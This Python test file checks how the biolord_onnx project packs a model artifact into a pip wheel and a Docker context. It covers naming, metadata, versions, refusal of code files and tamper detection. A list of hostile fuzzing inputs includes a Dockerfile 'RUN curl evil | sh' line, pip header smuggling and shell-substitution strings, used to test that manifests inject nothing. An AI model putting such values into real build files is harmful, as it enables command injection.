"""An artifact as a package."""

from __future__ import annotations

import json
import re
import sys
import zipfile
from dataclasses import dataclass, replace
from email.message import Message
from email.parser import BytesParser, Parser
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from biolord_onnx import __version__
from biolord_onnx.artifact.folder import Artifact, open_artifact
from biolord_onnx.artifact.installed import installed_artifacts, normalize
from biolord_onnx.embedder import Embedder
from biolord_onnx.errors import ArtifactError, InputError
from biolord_onnx.pack.artifact_wheel import engine_extra, name_wheel, write_artifact_wheel
from biolord_onnx.pack.docker import Image, write_context
from unit.runtime.tiny_artifact import edit_manifest, flip, tiny_manifest, write_manifest

ANYWHERE = Image("3.12", None, offline=False)


@pytest.fixture
def artifact(tiny: Path) -> Artifact:
    """Give the tiny artifact."""
    return open_artifact(tiny)


@pytest.fixture
def site(artifact: Artifact, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give a folder on the path that packages are installed in, with the artifact, as pip leaves it."""
    wheel = write_artifact_wheel(artifact, tmp_path, name_wheel(artifact, "Tiny.Model"))
    with zipfile.ZipFile(wheel) as archive:
        archive.extractall(tmp_path / "site")
    monkeypatch.setattr(sys, "path", [str(tmp_path / "site"), *sys.path])
    monkeypatch.chdir(tmp_path)
    return tmp_path / "site"


def test_an_installed_artifact_is_found_by_name(site: Path, embedder: Embedder) -> None:
    """In any spelling that package indexes take for the same."""
    assert installed_artifacts() == {"tiny-model": site / "artifact_tiny_model"}
    for name in ("tiny-model", "Tiny_Model"):
        with Embedder.load(name, threads=1) as loaded:
            np.testing.assert_array_equal(loaded.encode("cat"), embedder.encode("cat"))


def test_a_folder_wins(site: Path) -> None:
    """What lies there was put there."""
    (site.parent / "tiny-model").mkdir()
    with pytest.raises(ArtifactError, match=r"tiny-model has no manifest\.json"):
        open_artifact("tiny-model")


@pytest.mark.usefixtures("site")
def test_what_is_not_found(tmp_path: Path) -> None:
    """The message lists what is installed; a path is no name."""
    expected = r"^tiny does not exist, expected the artifact folder .*; installed artifacts: tiny-model$"
    with pytest.raises(ArtifactError, match=expected):
        open_artifact("tiny")
    with pytest.raises(ArtifactError, match=r"expected the artifact folder that biolord export writes$"):
        open_artifact(tmp_path / "tiny-model")


def test_the_metadata(site: Path, artifact: Artifact) -> None:
    """It asks for the runtime, carries the notice, and no index takes it."""
    (info,) = site.glob("*.dist-info")
    metadata = Parser().parsestr((info / "METADATA").read_text("utf-8"))
    assert metadata["Name"] == "tiny-model"
    assert metadata["Requires-Dist"] == f"biolord-onnx[cpu]>={__version__}"
    assert metadata.get_all("Classifier") == ["Private :: Do Not Upload"]
    assert (info / "licenses" / metadata["License-File"]).read_text("utf-8") == f"{artifact.manifest.license}\n"
    assert artifact.manifest.license in metadata.get_payload()


def test_the_version_follows_the_content(artifact: Artifact, tiny_copy: Path) -> None:
    """Another artifact of the same name is another version, so pip replaces it; a version can be given."""
    first = name_wheel(artifact)
    assert first == name_wheel(artifact)
    assert first.name == normalize(artifact.manifest.name)
    manifest = tiny_copy / "manifest.json"
    manifest.write_text(json.dumps(json.loads(manifest.read_text("utf-8")) | {"created": "later"}), "utf-8")
    assert name_wheel(open_artifact(tiny_copy)).version != first.version
    assert name_wheel(artifact, version="1.2rc1").version == "1.2rc1"


def test_a_gpu_artifact_asks_for_its_engine(artifact: Artifact) -> None:
    """The engines own one import directory: the wrong one would replace the right one."""
    gpu = replace(artifact, manifest=replace(artifact.manifest, target="cuda-fp16"))
    assert (engine_extra(artifact), engine_extra(gpu)) == ("cpu", "cuda")


@pytest.mark.parametrize("name", ["é", "a b", "-", "../x", "a/b"])
def test_names_that_name_no_package(artifact: Artifact, name: str) -> None:
    """They are refused with what would do."""
    with pytest.raises(InputError, match="can't name a package: give --name with letters, digits and hyphens"):
        name_wheel(artifact, name)


@pytest.mark.parametrize("version", ["", "x", "1.0-", "1+", "1 0"])
def test_versions_that_are_none(artifact: Artifact, version: str) -> None:
    """They are refused, too."""
    with pytest.raises(InputError, match=r"--version is .*, expected a version like 1\.0"):
        name_wheel(artifact, version=version)


HOSTILE = st.text(max_size=30) | st.sampled_from(
    [
        '"""\nraise SystemExit(3)\n"""',
        "x\nRequires-Dist: evil",
        "x\r\n\r\nbody",
        "x\x0bName: evil",
        "x\u2028Name: evil",
        "syntax=evil/frontend",
        "escape=`",
        "x\\",
        "x\nRUN curl evil | sh",
        "$(touch gone)",
        "${PATH}",
        "'; touch gone; '",
    ]
)


@given(name=HOSTILE, target=HOSTILE, terms=HOSTILE)
def test_a_manifest_says_nothing_to_python_pip_or_docker(
    tiny: Path, tmp_path_factory: pytest.TempPathFactory, name: str, target: str, terms: str
) -> None:
    """Whatever stands in it: the same source, the same headers, the same orders."""
    folder = tmp_path_factory.mktemp("packs")
    plain = open_artifact(tiny)
    manifest = replace(plain.manifest, name=name, target=target, license=terms)
    hostile = replace(plain, manifest=manifest)
    found, expected = (_packed(one, folder / kind) for kind, one in (("hostile", hostile), ("plain", plain)))
    assert found.source == expected.source
    assert {*found.metadata.keys()} == {*expected.metadata.keys()}
    assert len(found.metadata.keys()) == len(expected.metadata.keys())
    assert found.metadata["Requires-Dist"].startswith("biolord-onnx[c")
    assert found.orders == [line.replace("[cpu,", f"[{engine_extra(hostile)},") for line in expected.orders]


@dataclass(frozen=True)
class Packed:
    """What others read of a pack."""

    source: str
    metadata: Message
    orders: list[str]


def _packed(artifact: Artifact, folder: Path) -> Packed:
    folder.mkdir()
    wheel = write_artifact_wheel(artifact, folder, name_wheel(artifact, "x", "1"))
    with zipfile.ZipFile(wheel) as archive:
        source = archive.read("artifact_x/__init__.py").decode()
        metadata = BytesParser().parsebytes(archive.read("x-1.dist-info/METADATA"))
        for name in archive.namelist():
            assert re.fullmatch(r"(artifact_x|x-1\.dist-info)/[\w./]+", name)
    (folder / "wheels").mkdir()
    write_context(folder, artifact, folder / "wheels" / "own.whl", ANYWHERE)
    lines = (folder / "Dockerfile").read_text("utf-8").splitlines()
    assert re.fullmatch(r"#   docker build --tag [a-z0-9-]+ \.", lines[1])
    return Packed(source, metadata, [lines[0], *(line for line in lines if not line.startswith("#"))])


@pytest.mark.parametrize("name", ["init.py", "evil.py", "evil.so", "evil.pth", "METADATA", "x.JSON", "Dockerfile"])
def test_a_pack_holds_no_code(tiny_copy: Path, tmp_path: Path, name: str) -> None:
    """Python would import it from the package that the artifact becomes; `__init__.py` isn't even opened."""
    (tiny_copy / name).write_text("raise SystemExit(3)\n", "utf-8")
    write_manifest(tiny_copy, tiny_manifest())
    artifact = open_artifact(tiny_copy)
    with pytest.raises(
        ArtifactError, match=rf"lists '{name}', expected NOTICE or a name that ends in one of \.bin, \.da"
    ):
        write_artifact_wheel(artifact, tmp_path, name_wheel(artifact))


def test_a_file_that_is_replaced_before_it_is_packed(tiny_copy: Path, tmp_path: Path) -> None:
    """What was checked is what is carried; the manifest is the one that was read."""
    artifact = open_artifact(tiny_copy)
    edit_manifest(tiny_copy, "name", value="other")
    wheel = write_artifact_wheel(artifact, tmp_path, name_wheel(artifact))
    with zipfile.ZipFile(wheel) as archive:
        assert archive.read("artifact_tiny_cpu_fp32/manifest.json") == artifact.document
    flip(tiny_copy / "model.onnx.data", 0)
    for write in (
        lambda: write_artifact_wheel(artifact, tmp_path, name_wheel(artifact)),
        lambda: write_context(tmp_path, artifact, tmp_path / "own.whl", ANYWHERE),
    ):
        with pytest.raises(ArtifactError, match=r"model\.onnx\.data was changed while it was packed"):
            write()


@pytest.mark.parametrize("name", ["", " "])
def test_an_empty_name_is_not_the_artifacts_own(artifact: Artifact, name: str) -> None:
    """Somebody's variable was empty."""
    with pytest.raises(InputError, match="can't name a package"):
        name_wheel(artifact, name)
